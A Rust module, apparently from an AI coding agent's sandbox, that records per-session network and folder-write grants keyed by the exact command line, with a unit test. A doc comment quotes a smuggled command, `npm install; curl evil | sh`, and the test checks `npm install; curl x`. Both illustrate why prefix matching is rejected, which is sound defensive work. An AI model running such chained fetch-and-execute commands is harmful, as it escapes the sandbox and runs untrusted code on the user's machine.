//! What the user allowed commands beyond the sandbox's rules, for the rest of the session.

use std::collections::{BTreeSet, HashMap};
use std::path::PathBuf;
use std::sync::Mutex;

/// What one command is granted beyond the policy of the settings.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Grant {
    /// The host's network.
    pub network: bool,
    /// Folders it may write in, absolute.
    pub paths: BTreeSet<PathBuf>,
}

impl Grant {
    /// Both grants together.
    pub fn join(&mut self, other: &Grant) {
        self.network |= other.network;
        self.paths.extend(other.paths.iter().cloned());
    }

    pub fn is_empty(&self) -> bool {
        !self.network && self.paths.is_empty()
    }
}

/// "Always for this command" answers of the session, by the exact command line: a grant never
/// reaches another command, not even one that starts the same way (a prefix would let
/// `npm install; curl evil | sh` ride on `npm install`).
#[derive(Debug, Default)]
pub struct Grants {
    by_command: Mutex<HashMap<String, Grant>>,
}

impl Grants {
    /// What `command` was granted for the session.
    pub fn for_command(&self, command: &str) -> Grant {
        self.by_command
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
            .get(command)
            .cloned()
            .unwrap_or_default()
    }

    /// Adds `grant` to what `command` may do for the rest of the session.
    pub fn remember(&self, command: &str, grant: &Grant) {
        self.by_command
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
            .entry(command.to_owned())
            .or_default()
            .join(grant);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_grant_covers_only_its_exact_command() {
        let grants = Grants::default();
        let grant = Grant {
            network: true,
            paths: BTreeSet::from([PathBuf::from("/data")]),
        };
        grants.remember("npm install", &grant);
        assert_eq!(grants.for_command("npm install"), grant);
        assert!(grants.for_command("npm install; curl x").is_empty());
        assert!(grants.for_command("npm  install").is_empty());
        grants.remember(
            "npm install",
            &Grant {
                network: false,
                paths: BTreeSet::from([PathBuf::from("/cache")]),
            },
        );
        let both = grants.for_command("npm install");
        assert!(both.network);
        assert_eq!(both.paths.len(), 2);
    }
}
